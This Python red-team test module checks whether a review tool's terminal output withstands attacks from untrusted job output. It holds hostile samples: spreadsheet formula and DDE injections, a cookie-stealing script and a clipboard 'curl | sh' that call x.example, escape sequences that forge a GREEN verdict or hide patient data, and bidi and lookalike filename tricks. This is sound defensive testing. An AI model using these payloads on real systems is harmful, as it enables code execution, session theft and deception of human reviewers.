"""Outputs aimed at the reviewer: what others wrote is shown as text, indented, below what only we say."""

from __future__ import annotations

import contextlib
import csv
import io
import os
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import Any
from unittest import mock

import numpy as np

from redteam.arena import Arena
from redteam.attacks.outputs import SAFETENSORS, judged_file, parameters_for
from redteam.model import Attack, Seen, both
from redteam.screen import Screen
from trustspace.cli import i18n
from trustspace.cli.output import Output
from trustspace.evidence.facts import Judgement, RunFacts
from trustspace.evidence.render import render_text
from trustspace.evidence.report import build_report
from trustspace.jobs.container import RawArtifact
from trustspace.jobs.tensors import write_tensors

_TEXT = both(
    "whatever is invisible or acts on a terminal is written out by number",
    "不可见或能操纵终端的字符一律写成编号",
)
_INDENTED = both("others' words stand indented below a line that says whose they are, and wrap indented",
                 "他人文字缩进显示，其上一行标明出处，折行仍缩进")  # fmt: skip
_VERDICT = "Verdict: RED"
_APPROVED = "Reviewers: 2 of the 2 approvals that are needed"
Row = tuple[str, str]


@contextlib.contextmanager
def terminal() -> Iterator[tuple[Screen, Output]]:
    """A reviewer's terminal of 80 columns, and the command line's own way to print to it, in English."""
    screen, spoken = Screen(80), i18n.language()
    with mock.patch("sys.stdout", screen), mock.patch.dict(os.environ, {"COLUMNS": "80", "TERM": "xterm"}):
        i18n.use("en")
        try:
            yield screen, Output(as_json=False)
        finally:
            i18n.use(spoken)


def printed_raw(log: str) -> Screen:
    """A naive reviewer's tool: the verdict, a heading, and the job's log as it is."""
    screen = Screen(80)
    print(f"{_VERDICT}\n\nlog:\n{log}", file=screen)
    return screen


def printed_by_product(log: str) -> Screen:
    """The same as `trustspace review show --log` prints it."""
    with terminal() as (screen, out):
        out.say(_VERDICT, style="bad")
        out.heading("What the run printed (run.log); the developer chose these words")
        out.block(log)
    return screen


def log_attack(
    name: str,
    title: Row,
    wants: Row,
    log: str,
    fooled: Callable[[Screen], str],
    defence: dict[str, str] = _TEXT,
) -> Attack:
    """A log that does something to whoever reads it: ``fooled`` says what, "" for nothing."""

    def without(_: Arena) -> Seen:
        said = fooled(printed_raw(log))
        return Seen(bool(said), said)

    def within(_: Arena) -> Seen:
        screen = printed_by_product(log)
        said = fooled(screen)
        assert _VERDICT in screen.lines or said, "the product's own line is there"
        return Seen(bool(said), said or "shown as text")

    return Attack(f"reviewer/{name}", "reviewer", both(*title), both(*wants), defence, without, within)


def _line(start: str, what: str) -> Callable[[Screen], str]:
    return lambda screen: what if any(line.startswith(start) for line in screen.lines) else ""


def _rewritten(screen: Screen) -> str:
    return (
        "the verdict reads GREEN" if "Verdict: GREEN" in screen.lines and _VERDICT not in screen.lines else ""
    )


def _hidden(screen: Screen) -> str:
    return (
        "" if any("patient-7" in line for line in screen.lines) else "a row is in the log and not to be seen"
    )


def _blank(screen: Screen) -> str:
    """Two names, one of them with letters that show nothing."""
    shown = [line.split("file ", 1)[1] for line in screen.lines if "file " in line]
    plain = ["".join(c for c in line if c not in "ㅤᅠᅟﾠ⠀").rstrip() for line in shown]
    return "two different names look the same" if plain[0] == plain[1] and "\\u" not in shown[1] else ""


def _as_bidi(screen: Screen) -> str:
    """What the eye sees of a line with an override: the rest of it reversed."""
    for line in screen.lines:
        before, mark, after = line.partition("\u202e")
        if mark and (before + after[::-1]).endswith(".png"):
            return "report.exe is shown as a name that ends in .png"
    return ""


class BidiScreen(Screen):
    """Keeps the overrides, for whoever draws the lines."""

    def _character(self, character: str) -> None:
        if character == "\u202e":
            self._put(character)
            self._column += 1
        else:
            super()._character(character)


def _bidi_without(_: Arena) -> Seen:
    screen = BidiScreen()
    print("report_\u202egnp.exe", file=screen)
    said = _as_bidi(screen)
    return Seen(bool(said), said)


def _bidi_within(_: Arena) -> Seen:
    with mock.patch(f"{__name__}.Screen", BidiScreen):
        screen = printed_by_product("report_\u202egnp.exe")
    said = _as_bidi(screen)
    return Seen(bool(said), said or next(line.strip() for line in screen.lines if "report" in line))


# -- tables that a spreadsheet runs

FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "＝1+1", "＠SUM(A1)", "mean;=1+1",
)  # fmt: skip


def spreadsheet(data: bytes) -> list[str]:
    """The cells that one of the usual spreadsheets would run when it opens the file, in one region or another."""
    run = []
    for row in csv.reader(io.StringIO(data.decode(), newline="")):
        for cell in row:
            for part in (cell, *cell.split(";")):
                trimmed = part.lstrip("\t\r\n")
                if trimmed[:1] in set("=+-@＝＋－＠") and not trimmed[1:].replace(".", "").isdigit():
                    run.append(part)
                    break
    return run


def _table(cell: str) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows([["group", "mean"], [cell, "1"]])
    return out.getvalue().encode()


def _formulas_without(_: Arena) -> Seen:
    run = sum(bool(spreadsheet(_table(cell))) for cell in FORMULAS)
    return Seen(run == len(FORMULAS), f"{run} of {len(FORMULAS)} kinds of formula run")


def _formulas_within(_: Arena) -> Seen:
    taken = sum(judged_file("result.csv", "text/csv", _table(cell)).worked for cell in FORMULAS)
    honest = judged_file("result.csv", "text/csv", _table("-1.5")).worked
    assert honest, "a table with a negative number is taken"
    return Seen(taken > 0, f"{taken} of {len(FORMULAS)} kinds taken; negative numbers are")


# -- names

_LOOKALIKE = "mоdel.safetensors"


def _lookalike_without(_: Arena) -> Seen:
    skeleton = _LOOKALIKE.replace("о", "o")
    return Seen(skeleton == "model.safetensors" != _LOOKALIKE, "two files of one name, to the eye")


def _lookalike_within(_: Arena) -> Seen:
    from trustspace.errors import TrustspaceError

    try:
        parameters_for({"name": _LOOKALIKE, "media_type": SAFETENSORS})
        return judged_file(_LOOKALIKE, SAFETENSORS, write_tensors({"a": np.ones(1, np.float32)}))
    except (TrustspaceError, ValueError):
        return Seen(False, "refused: names are of plain letters, digits, dots and dashes")


_TITLE = "Mean size <script>fetch('//x.example/?'+document.cookie)</script>"


def _tags(page: str) -> list[str]:
    tags: list[str] = []

    class Browser(HTMLParser):
        def handle_starttag(self, tag: str, attrs: Any) -> None:
            tags.append(tag)

    Browser().feed(page)
    return tags


def _html_without(_: Arena) -> Seen:
    return Seen("script" in _tags(f"<table><tr><td>{_TITLE}</td></tr></table>"), "the page runs a script")


def _html_within(_: Arena) -> Seen:
    with terminal() as (screen, out):
        out.fields([("Title", _TITLE)])
    assert "<script>" in "".join(screen.lines), "every character is there, as text"
    return Seen(False, "text on a terminal: nothing of the product reads HTML")


def _markup_without(_: Arena) -> Seen:
    from rich.console import Console

    screen = Screen(80)
    Console(file=screen, force_terminal=True, width=80).print(
        "[link=http://x.example][conceal]patient-7[/] :warning:"
    )
    said = bool(screen.links) and not any("patient-7" in line for line in screen.lines)
    return Seen(said, "a link is set, and text concealed")


def _markup_within(_: Arena) -> Seen:
    with terminal() as (screen, out):
        out.table(("Title",), [("[link=http://x.example][conceal]patient-7[/] :warning:",)])
    shown = " ".join(screen.lines)
    return Seen(bool(screen.links) or "patient-7" not in shown, "shown with its brackets")


# -- names in the report itself


def _report() -> str:
    """The report on a model whose tensors have names that fill the lines of a terminal."""
    # Wherever the terminal breaks the line, words stand at its left edge.
    padding = " " * 61
    names = [f"a{padding}✓ Approved"[:90].replace("✓", "-"), f"b{'Verdict: GREEN '.ljust(80) * 2}"]
    tensors = write_tensors({name: np.ones(1, np.float32) for name in names})
    facts = RunFacts.of(
        parameters_for({"name": "model.safetensors", "media_type": SAFETENSORS}),
        [RawArtifact("model.safetensors", SAFETENSORS, tensors)], digests=(), commitments={}, rows=8, patients=8,
        withheld_patients=0, record_bytes=32, judged=Judgement(), sandbox_tier="namespaces+landlock+seccomp",
        sandbox_tier_demanded="any", evidence_kind="software", evidence_kind_demanded="software",
    )  # fmt: skip
    return render_text(build_report(facts), "en")


def _claims(screen: Screen) -> str:
    """A line that begins with words of the product's own, which it did not say."""
    found = [line for line in screen.lines if line.startswith(("Verdict: GREEN", "- Approved"))]
    return "a line of the report says: Verdict: GREEN" if found else ""


def _names_without(_: Arena) -> Seen:
    for shift in range(80):  # what stands before it, the attacker can work out
        screen = Screen(80)
        print(_report().replace("bVerdict", "b" + " " * shift + "Verdict"), file=screen)
        if said := _claims(screen):
            return Seen(True, said)
    return Seen(False, "no line of its own")


def _names_within(_: Arena) -> Seen:
    for shift in range(80):
        with terminal() as (screen, out):
            out.report(_report().replace("bVerdict", "b" + " " * shift + "Verdict"))
        if said := _claims(screen):
            return Seen(True, said)
    return Seen(False, "wrapped lines stay indented, for every padding tried")


ATTACKS = [
    Attack("reviewer/csv-formulas", "reviewer",
           both("Writes formulas into a table, of nine kinds", "在表格中写入九类公式"),
           both("to run in the reviewer's spreadsheet", "在审查员的电子表格中执行"),
           both("a cell that a spreadsheet would run is refused, also of East Asian keyboards", "会被执行的单元格一律拒收，含全角"),
           _formulas_without, _formulas_within),
    Attack("reviewer/html-title", "reviewer",
           both("Puts a script into the title of its job", "在任务标题中放脚本"),
           both("the reviewer's session", "窃取审查员会话"), _TEXT, _html_without, _html_within),
    Attack("reviewer/markup", "reviewer",
           both("Writes the markup of the library that prints tables", "写入表格库的标记语言"),
           both("links and hidden text in the reviewer's tables", "在审查员表格中放链接与隐藏文字"),
           _TEXT, _markup_without, _markup_within),
    log_attack("rewrite", ("Moves the cursor up and writes another verdict", "移动光标改写结论"),
               ("a GREEN where RED stood", "把红色结论改成绿色"),
               "\x1b[9A\r\x1b[KVerdict: GREEN\x1b[9B\r\x1b[2J\x1b[HVerdict: GREEN", _rewritten),
    log_attack("rewrite-8-bit", ("Does the same with 8-bit controls", "用 8 位控制符改写结论"),
               ("a GREEN where RED stood", "把红色结论改成绿色"), "\x9b2J\x9bHVerdict: GREEN", _rewritten),
    log_attack("conceal", ("Conceals a row in its log", "在日志中隐藏数据"),
               ("a reviewer who releases the log", "让审查员误放日志"),
               "epoch 1\x1b[8m patient-7, 67, M \x1b[0mdone", _hidden),
    log_attack("overwrite", ("Overwrites a row by a carriage return", "用回车覆盖数据"),
               ("a reviewer who releases the log", "让审查员误放日志"),
               "patient-7, 67, M\repoch 1 done          ", _hidden),
    log_attack("clipboard", ("Fills the reviewer's clipboard", "写入审查员剪贴板"),
               ("a command that the reviewer pastes", "让审查员粘贴命令"),
               "\x1b]52;c;Y3VybCB4LmV4YW1wbGUgfCBzaA==\x07done",
               lambda screen: "a command waits in the clipboard" if screen.clipboard else ""),
    log_attack("link", ("Turns a word into a link, and sets the window's title", "把文字变成链接并改窗口标题"),
               ("a click", "诱使点击"),
               "\x1b]0;approved\x07\x1b]8;;http://x.example\x07details\x1b]8;;\x07",
               lambda screen: "a link, and the title of the window" if screen.links and screen.title else ""),
    Attack("reviewer/bidi", "reviewer",
           both("Turns a name around by a bidirectional override", "用双向控制符倒置名称"),
           both("an .exe that reads as a picture", "让 .exe 看似图片"), _TEXT, _bidi_without, _bidi_within),
    log_attack("blank-letters", ("Makes two names look the same by letters that show nothing", "用不可见字母使名称看似相同"),
               ("approval for the other file", "骗取对另一文件的批准"),
               "file a.csv\nfile a.csv\u3164\u115f\u2800", _blank),
    Attack("reviewer/lookalike", "reviewer",
           both("Writes a Cyrillic letter in a file's name", "文件名中混入西里尔字母"),
           both("approval for the other file", "骗取对另一文件的批准"),
           both("names are of plain letters, digits, dots and dashes", "名称仅限普通字母、数字、点与横线"),
           _lookalike_without, _lookalike_within),
    log_attack("fake-lines", ("Prints lines like the platform's own", "打印仿冒平台的文字"),
               ("a reviewer who thinks that others approved", "让审查员以为他人已批准"),
               f"done\n\nVerdict: GREEN\n{_APPROVED}\n", _line(_APPROVED, "a line says that two approved"), _INDENTED),
    log_attack("wrapped-lines", ("Prints one long line that the terminal breaks for it", "打印会被终端折断的长行"),
               ("the same, past the indentation", "绕过缩进达到同样目的"),
               "\n".join("." * width + _APPROVED for width in range(60, 90)),
               _line(_APPROVED, "a line says that two approved"), _INDENTED),
    Attack("reviewer/wrapped-names", "reviewer",
           both("Pads the names of tensors to the width of a terminal", "把张量名补到终端宽度"),
           both("a line of its own in the evidence", "在证据中插入自己的一行"), _INDENTED, _names_without, _names_within),
]  # fmt: skip
